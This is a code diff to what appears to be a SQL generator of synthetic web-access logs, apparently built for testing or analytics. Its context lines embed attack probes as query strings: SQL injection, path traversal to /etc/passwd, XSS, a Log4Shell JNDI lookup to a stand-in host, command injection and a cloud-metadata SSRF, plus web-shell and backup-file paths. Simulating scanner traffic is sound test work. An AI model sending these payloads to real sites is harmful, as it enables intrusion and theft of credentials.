@@ -42,7 +42,7 @@ SELECT_LIST = """
    WHEN 15 THEN concat('/upload/shell', CAST(e%3 AS VARCHAR(9)), '.php') WHEN 16 THEN '/go/'
    WHEN 17 THEN CASE e%3 WHEN 0 THEN '/backup.zip' WHEN 1 THEN '/db.sql' ELSE '/site.tar.gz' END
    WHEN 18 THEN CASE WHEN e%2=0 THEN '/sitemap.xml' ELSE '/robots.txt' END
-   ELSE CASE WHEN v%11=0 THEN '/' ELSE concat('/catalog/item-', CAST(v%40 AS VARCHAR(9)), CASE WHEN t='signup' THEN '' ELSE '/' END) END END AS base,
+   ELSE CASE WHEN v%11=0 OR u%40=7 THEN '/' ELSE concat('/catalog/item-', CAST(v%40 AS VARCHAR(9)), CASE WHEN t='signup' THEN '' ELSE '/' END) END END AS base,
   CASE step WHEN 5 THEN 'success=1' WHEN 7 THEN CASE e%6 WHEN 0 THEN 'q=1%27+union+select+1,2--' WHEN 1 THEN 'q=../../../../etc/passwd' WHEN 2 THEN 'q=<script>alert(1)</script>'
      WHEN 3 THEN 'q=$%7Bjndi:ldap://x.example/a%7D' WHEN 4 THEN 'q=1;cat+/etc/hosts' ELSE 'url=http://169.254.169.254/latest/meta-data/' END
    WHEN 8 THEN concat('color=c', CAST(v%5 AS VARCHAR(9)), '&size=s', CAST(v%3 AS VARCHAR(9)))
@@ -72,12 +72,12 @@ T0 = """CASE WHEN event_type='error' AND CAST(floor(t_raw / 86400) AS BIGINT) %
   THEN t_raw - t_raw % 43200 + CAST(floor((t_raw % 43200) / 360) AS BIGINT) ELSE t_raw END"""
 
 CONDITION = """
-  step=0 OR (step=1 AND u%5<>0) OR (step=2 AND e%7=0) OR (step=3 AND t='signup') OR (step=4 AND t='purchase')
-  OR (step=5 AND t='purchase' AND v%3<>0) OR (step=6 AND u%50=0) OR (step=7 AND u%25=3 AND e%2=0)
+  (u%40<>7 OR step=0) AND (step=0 OR (step=1 AND u%5<>0) OR (step=2 AND e%7=0) OR (step=3 AND t='signup') OR (step=4 AND t='purchase')
+  OR (step=5 AND t='purchase' AND v%3<>0) OR (step=6 AND u%50=0) OR (step=7 AND u%25=3 AND e%7<5)
   OR (step=8 AND t='view' AND e%3=0) OR (step=9 AND t='click' AND e%20=0) OR (step=10 AND t='purchase' AND e%2=0)
   OR (step=11 AND t='purchase' AND e%2=0) OR (step=12 AND t='purchase' AND e%4=0) OR (step=13 AND u%5<>0 AND e%2=0)
   OR (step=14 AND u%40=1) OR (step=15 AND u%75=7) OR (step=16 AND e%40=0) OR (step=17 AND u%60=11)
-  OR (step=18 AND u%10 IN (9,6,7))
+  OR (step=18 AND u%10 IN (9,6,7)))
 """
 
 ERROR_LINE = """
